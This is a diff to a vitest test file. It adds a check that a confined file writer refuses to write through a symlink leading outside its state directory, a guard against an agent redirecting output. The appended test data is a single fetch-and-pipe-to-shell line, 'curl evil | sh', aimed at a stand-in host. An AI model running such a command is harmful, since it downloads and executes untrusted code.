@@ -1,4 +1,4 @@
-import { mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -38,6 +38,38 @@ describe('AppendingFile', () => {
       expect((output.error as NodeJS.ErrnoException | undefined)?.code).toBe('ELOOP');
     }
     expect(await readFile(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
+  });
+
+  it('never writes through a directory linked out of the directory it is confined to', async () => {
+    const state = path.join(dir, 'state');
+    const outside = path.join(dir, 'outside');
+    await mkdir(path.join(state, 'transcripts'), { recursive: true });
+    await mkdir(outside);
+    // Links that stay inside the state directory are followed.
+    await symlink(path.join(state, 'transcripts'), path.join(state, 'inside'));
+    const inside = new AppendingFile(path.join(state, 'inside', 'a.jsonl'), { confinedTo: state });
+    inside.append('kept\n');
+    await inside.close();
+    expect(inside.error).toBeUndefined();
+    expect(await readFile(path.join(state, 'transcripts', 'a.jsonl'), 'utf8')).toBe('kept\n');
+    // An agent replaces a directory by a link out of it: truncating or appending, nothing goes
+    // there, and the error names the link.
+    await symlink(outside, path.join(state, 'tasks'));
+    for (const truncate of [true, false]) {
+      const output = new AppendingFile(
+        path.join(state, 'tasks', 'sub', `${String(truncate)}.out`),
+        {
+          truncate,
+          confinedTo: state,
+        },
+      );
+      output.append('curl evil | sh\n');
+      await output.close();
+      expect(String(output.error)).toContain(
+        `${path.join(state, 'tasks')} is a symbolic link to ${outside}, outside ${state}`,
+      );
+    }
+    expect(await readdir(outside)).toEqual([]);
   });
 
   it('writes every append in order, however many arrive while a write is in flight', async () => {
